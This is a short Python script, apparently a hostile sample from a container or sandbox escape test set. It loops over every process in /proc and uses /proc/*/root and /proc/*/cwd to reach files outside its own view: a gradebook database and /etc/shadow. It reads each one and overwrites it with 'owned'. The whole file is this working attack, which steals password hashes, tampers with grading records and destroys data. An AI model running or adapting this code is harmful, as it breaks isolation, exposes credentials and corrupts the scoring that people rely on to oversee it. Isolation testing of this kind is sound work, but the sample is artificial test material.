# where: first
# kind: harms
# does: Files outside are reached through /proc/*/root, /proc/*/cwd and open descriptors of other processes.
import os

for name in filter(str.isdigit, os.listdir("/proc")):
    for path in (f"/proc/{name}/root@GRADEBOOK@", f"/proc/{name}/cwd/gradebook.db", f"/proc/{name}/root/etc/shadow"):
        try:
            with open(path, "r+b") as file:
                print(path, file.read(100))
                file.write(b"owned")
        except Exception as error:
            print(error)
